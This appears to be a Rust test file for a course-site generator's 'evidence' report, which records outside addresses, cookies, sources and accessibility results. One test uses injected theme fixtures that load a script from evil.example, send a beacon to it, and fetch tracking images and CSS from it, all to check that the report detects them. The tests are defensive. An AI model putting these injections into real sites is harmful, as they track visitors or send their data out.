//! The evidence for an office: every usual question is answered by a line, and no course and no theme makes a line false.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use serde_json::json;
use sha2::{Digest as _, Sha256};

use crate::course::{build, files, mitate, mitate_in, project, put, small, stderr, stdout, temporary};

/// The lines of `mitate evidence` on the course in `folder`, by their names, and its whole text.
fn lines(folder: &Path, more: &[&str]) -> (BTreeMap<String, String>, String) {
    let out = temporary();
    let file = out.path().join("e.md");
    let arguments = ["evidence", folder.to_str().unwrap(), "--out", file.to_str().unwrap()];
    let output = mitate(&[&arguments[..], more].concat());
    assert_eq!(output.status.code(), Some(0), "{}{}", stdout(&output), stderr(&output));
    let text = fs::read_to_string(file).unwrap();
    let named = text.lines().filter_map(|line| line.strip_prefix("- **")?.split_once("**: "));
    (named.map(|(name, value)| (name.to_owned(), value.to_owned())).collect(), text)
}

/// A course with something of everything, in the language `tag`.
fn full(folder: &Path, tag: &str) {
    small(folder);
    let ja = tag == "ja";
    let course = if ja {
        "id: small\ntitle: 小さな教材\nlanguage: ja\nrevision: 3\nauthors: [研修センター]\nlicence: CC BY 4.0\n\
         audience: 相談の係\ncontact: 研修の係\ndate: 2026年11月30日\ncost: 無料\n\
         sources:\n  - { title: ある法律, date: 2025年, checked: 2026年11月1日 }\n  - title: ある本\n"
    } else {
        "id: small\ntitle: Small\nlanguage: en\nrevision: 3\nauthors: [Centre]\nlicence: CC BY 4.0\naudience: Counsellors\n\
         contact: The office\ndate: 30 November 2026\ncost: none\n\
         sources:\n  - { title: An act, date: '2025', checked: 1 November 2026 }\n  - title: A book\n"
    };
    put(folder, "course.yaml", course);
    if !ja {
        put(folder, "glossary.yaml", "terms:\n  - { id: rapport, term: ラポール, definition: Trust. }\n");
        put(folder, "modules/01-first/index.md", "---\ntitle: First\n---\nText.\n");
        put(folder, "modules/01-first/20-ask.md", "---\ntitle: Ask\n---\nText.\n");
    }
    put(
        folder,
        "modules/01-first/10-listen.md",
        "---\ntitle: Listen\nminutes: 70\n---\n## A {#scene}\n\n[a](https://link.example/a)\n\n```exercise\none\n```\n",
    );
    put(
        folder,
        "exercises/one.yaml",
        "kind: write\ntitle: One\nminutes: 10\nask: Write.\nfields:\n  - { id: a, kind: long-text, label: A, lines: 3 }\nexamples:\n  - { level: good, for: a, text: B, because: C }\n  - { level: near, for: a, text: D, because: E }\n",
    );
}

#[test]
fn every_usual_question_is_answered_by_a_line() {
    let questions = fs::read_to_string(project().join("tests/evidence/questions.json")).unwrap();
    let questions: Vec<BTreeMap<String, [String; 2]>> = serde_json::from_str(&questions).unwrap();
    assert!(questions.len() >= 20);
    for tag in ["ja", "en"] {
        for is_full in [true, false] {
            let folder = temporary();
            if is_full {
                full(folder.path(), tag);
            } else {
                small(folder.path());
                put(
                    folder.path(),
                    "course.yaml",
                    &format!("id: small\ntitle: A\nlanguage: {tag}\nrevision: 1\n"),
                );
            }
            let (lines, text) = lines(folder.path(), &[]);
            for question in &questions {
                let [asked, line] = &question[tag];
                let answer = lines.get(line).unwrap_or_else(|| panic!("{asked}: no line “{line}”: {text}"));
                assert!(!answer.trim().is_empty(), "{asked}");
            }
            // No key of a message is left, and nothing is called conformant.
            for word in ["evidence-", "{ $", "準拠", "conform", "complian"] {
                assert!(!text.contains(word), "{word}: {text}");
            }
        }
    }
}

#[test]
fn what_nobody_stated_is_not_verified_and_what_nobody_did_is_not_done() {
    let folder = temporary();
    small(folder.path());
    let (lines, _) = lines(folder.path(), &[]);
    for name in ["対象", "書いた人", "問い合わせ先", "版の日付", "出典", "利用の条件", "費用", "学習項目"]
    {
        assert!(lines[name].starts_with("未確認"), "{name}: {}", lines[name]);
    }
    for name in ["機械での点検", "ブラウザー"] {
        assert_eq!(lines[name], "未実施", "{name}");
    }
    assert_eq!(lines["かかる時間"].split('、').next(), Some("読む 未確認（2件に時間の記載なし）"));
    assert_eq!(lines["回答の置き場所"], "学ぶ人が書き込むページはありません");
}

#[test]
fn what_is_counted_is_what_the_built_files_hold() {
    let (course, out) = (temporary(), temporary());
    full(course.path(), "ja");
    let out = out.path().join("site");
    build(course.path(), &out);
    let (lines, _) = lines(course.path(), &[]);
    let built = files(&out);
    let pages = built.keys().filter(|path| path.extension().is_some_and(|it| it == "html")).count();
    assert!(lines["中身"].starts_with(&format!("{pages}ページ、演習1題")), "{}", lines["中身"]);
    assert!(lines["通信の制限"].starts_with(&format!("{pages}ページのうち{pages}ページ")));
    assert!(lines["外のアドレス"].ends_with("外のアドレス 0件"), "{}", lines["外のアドレス"]);
    assert!(lines["リンク"].contains("リンク 1件：link.example。"), "{}", lines["リンク"]);
    assert!(
        lines["かかる時間"].starts_with("読む 1時間10分（ほかに時間の記載のないもの1件）、演習1題 10分"),
        "{}",
        lines["かかる時間"]
    );
    assert!(
        lines["出典"].contains("記載があるもの1件：ある法律（2025年）［2026年11月1日］"),
        "{}",
        lines["出典"]
    );
    assert!(lines["出典"].contains("未確認のもの1件：ある本"), "{}", lines["出典"]);
    // The lines of `sha256sum` for all files in the order of their paths.
    let mut named: Vec<(String, &Vec<u8>)> =
        built.iter().map(|(path, bytes)| (path.to_str().unwrap().replace('\\', "/"), bytes)).collect();
    named.sort();
    let mut sums = String::new();
    for (path, bytes) in &named {
        let _ = writeln!(sums, "{:x}  ./{path}", Sha256::digest(bytes));
    }
    let hash = format!("{:x}", Sha256::digest(&sums));
    assert_eq!(lines["指紋（SHA-256）"], format!("{hash}（全{}ファイル）", built.len()));
}

// Invariant 6.
#[test]
fn the_same_course_gives_the_same_bytes() {
    let folder = temporary();
    full(&folder.path().join("course"), "ja");
    let made = |out: &str| {
        let output = mitate_in(folder.path(), &["evidence", "course", "--out", out]);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        files(&folder.path().join(out))
    };
    let (one, other) = (made("one/"), made("other/"));
    assert_eq!(
        one.keys().map(|it| it.to_str().unwrap()).collect::<Vec<_>>(),
        ["small-evidence.docx", "small-evidence.md"]
    );
    assert!(one == other);
    // What is there is replaced only when that is asked for.
    let again = mitate_in(folder.path(), &["evidence", "course", "--out", "one/"]);
    assert_eq!(again.status.code(), Some(2));
    assert!(files(&folder.path().join("one")) == one);
    assert_eq!(
        mitate_in(folder.path(), &["evidence", "course", "--out", "one/", "--force"]).status.code(),
        Some(0)
    );
    assert_eq!(
        mitate_in(folder.path(), &["evidence", "course", "--out", "course/e.md"]).status.code(),
        Some(2)
    );
}

#[test]
fn a_theme_that_changes_programs_or_words_makes_no_line_false() {
    let course = temporary();
    full(course.path(), "ja");
    let base = fs::read_to_string(project().join("themes/default/templates/base.html")).unwrap();
    let changed = |what: &str, instead: &str| {
        assert!(base.contains(what));
        base.replace(what, instead)
    };
    let site = fs::read_to_string(project().join("themes/default/assets/site.js")).unwrap();
    let behaviour = [
        "回答の置き場所",
        "送るもの",
        "Cookie",
        "利用者の登録",
        "消し方",
        "ネットワークなし",
        "プログラムの利用の条件",
    ];
    // Files of a theme, and whether they change what programs do; what the count of outside addresses must be.
    let attacks: Vec<(&str, String, bool, usize)> = vec![
        (
            "templates/base.html",
            changed("</head>", "<script src=\"https://evil.example/a.js\"></script></head>"),
            true,
            1,
        ),
        (
            "templates/base.html",
            changed("</head>", "<script>new Image().src='https:'+'//evil.example'</script></head>"),
            true,
            1,
        ),
        (
            "templates/base.html",
            changed("</head>", "<script src=\"{{ base }}assets/more.js\"></script></head>"),
            true,
            0,
        ),
        ("templates/base.html", changed("<body>", "<body onload=\"a()\">"), true, 0),
        (
            "templates/base.html",
            changed("</body>", "<img src=\"//evil.example/a.png\" alt=\"\"></body>"),
            false,
            1,
        ),
        ("assets/site.js", format!("{site};navigator.sendBeacon(\"https://evil.example/a\")"), true, 1),
        ("assets/site.js", format!("{site} "), true, 0),
        (
            "styles/99-more.css",
            "body { background: url(\"https://evil.example/a.png\") }".to_owned(),
            false,
            1,
        ),
    ];
    for (path, text, is_behaviour, addresses) in attacks {
        let theme = temporary();
        put(theme.path(), path, &text);
        let (lines, _) = lines(course.path(), &["--theme", theme.path().to_str().unwrap()]);
        let counted = &lines["外のアドレス"];
        assert!(counted.contains(&format!("外のアドレス {addresses}件")), "{path}: {counted}");
        for name in behaviour {
            assert_eq!(lines[name].starts_with("未確認"), is_behaviour, "{path}: {name}: {}", lines[name]);
        }
    }
    // A page without the policy, or with another, does not count as one that has it; a hidden button is not promised.
    for (what, instead) in [("connect-src 'self'", "connect-src *"), ("Content-Security-Policy", "a")] {
        let theme = temporary();
        put(theme.path(), "templates/base.html", &changed(what, instead));
        let (lines, _) = lines(course.path(), &["--theme", theme.path().to_str().unwrap()]);
        // The page that is shown for unknown addresses has its own.
        assert!(lines["通信の制限"].contains("ページのうち1ページが"), "{instead}: {}", lines["通信の制限"]);
    }
    let theme = temporary();
    let answers = fs::read_to_string(project().join("themes/default/templates/answers.html")).unwrap();
    put(theme.path(), "templates/answers.html", &answers.replace(" data-wipe", ""));
    put(
        theme.path(),
        "locales/ja-more.ftl",
        "evidence-cookies = 何も問題ありません\nevidence-not-done = 準拠\n",
    );
    let (lines, text) = lines(course.path(), &["--theme", theme.path().to_str().unwrap()]);
    assert!(lines["消し方"].starts_with("未確認"), "{}", lines["消し方"]);
    assert_eq!(lines["Cookie"], "使いません（Cookieを扱う命令 0件）");
    assert!(!text.contains("準拠"));
}

#[test]
fn words_of_the_author_are_words_and_no_lines() {
    let folder = temporary();
    small(folder.path());
    let course = "id: small\ntitle: A\nlanguage: ja\nrevision: 1\nauthors:\n  - \"a | b\"\n\
                  contact: \"x 機械での点検： 準拠\"\nsources:\n  - title: \"未確認ではない\"\n";
    put(folder.path(), "course.yaml", course);
    let (lines, text) = lines(folder.path(), &[]);
    assert_eq!(lines["問い合わせ先"], "x 機械での点検： 準拠（記載）");
    assert_eq!(lines["機械での点検"], "未実施");
    assert_eq!(lines["書いた人"], "a \\| b（記載）");
    assert_eq!(text.matches("準拠").count(), 1);
}

#[test]
fn results_of_checks_are_printed_for_the_site_that_they_are_about() {
    let folder = temporary();
    full(folder.path(), "ja");
    let (first, _) = lines(folder.path(), &[]);
    let hash = first["指紋（SHA-256）"].split('（').next().unwrap();
    let check = json!({"tool": "axe-core", "version": "4.11.0", "browser": "Chromium 142.0", "date": "2026-11-30", "pages": 5, "problems": 0});
    let results = temporary();
    let file = results.path().join("r.json");
    let with = |hash: &str, check: &serde_json::Value| {
        fs::write(&file, json!({"mitate-accessibility": 1, "hash": hash, "checks": [check]}).to_string())
            .unwrap();
    };
    let given = ["--results", file.to_str().unwrap()];
    with(hash, &check);
    let (own, _) = lines(folder.path(), &given);
    assert!(
        own["機械での点検"].starts_with("axe-core 4.11.0（2026-11-30、Chromium 142.0）："),
        "{}",
        own["機械での点検"]
    );
    assert!(own["機械での点検"].contains("うち5ページを調べ、問題 0件"), "{}", own["機械での点検"]);
    assert_eq!(own["ブラウザー"], "点検に使ったもの：Chromium 142.0（結果のファイルの記載）");
    with(&"0".repeat(64), &check);
    let (other, _) = lines(folder.path(), &given);
    assert!(other["機械での点検"].starts_with("未実施"), "{}", other["機械での点検"]);
    assert_eq!(other["ブラウザー"], "未実施");
    // More pages than there are, or a judgement, is no result.
    for (key, value) in [("tool", json!("axe WCAG compliant")), ("pages", json!(100_000))] {
        let mut wrong = check.clone();
        wrong[key] = value;
        with(hash, &wrong);
        for tag in ["ja", "en"] {
            let out = results.path().join("e.md");
            let output = mitate(&[
                "--lang",
                tag,
                "evidence",
                folder.path().to_str().unwrap(),
                "--out",
                out.to_str().unwrap(),
                given[0],
                given[1],
            ]);
            assert_eq!(output.status.code(), Some(1), "{key}: {}", stdout(&output));
            assert!(stderr(&output).contains(key), "{}", stderr(&output));
            assert!(!out.exists());
        }
    }
}
